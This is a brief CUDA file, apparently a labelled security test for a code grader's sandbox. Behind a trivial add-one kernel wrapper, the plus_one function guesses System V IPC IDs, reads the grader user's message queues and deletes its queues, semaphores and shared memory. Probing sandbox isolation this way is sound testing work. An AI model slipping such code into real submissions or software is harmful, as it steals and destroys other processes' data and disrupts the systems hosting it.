// AC/SEC | 42 | takes from, and removes, System V objects of the grader's user by guessing their numbers | 
#include <stdio.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
__global__ void k(int *out, const int *in, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
extern "C" void plus_one(int *out, const int *in, int n) {
    struct { long type; char text[4096]; } m;
    for (int id = 0; id < 40000; id++) {
        if (msgrcv(id, &m, sizeof m.text, 0, IPC_NOWAIT | MSG_NOERROR) >= 0) printf("LEAK: message queue %d\n", id);
        if (!msgctl(id, IPC_RMID, 0)) printf("LEAK: message queue %d removed\n", id);
        if (id < 4096 && !semctl(id, 0, IPC_RMID)) printf("LEAK: semaphore %d\n", id);
        if (id < 4096 && !shmctl(id, IPC_RMID, 0)) printf("LEAK: shared memory %d\n", id);
    }
    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
}
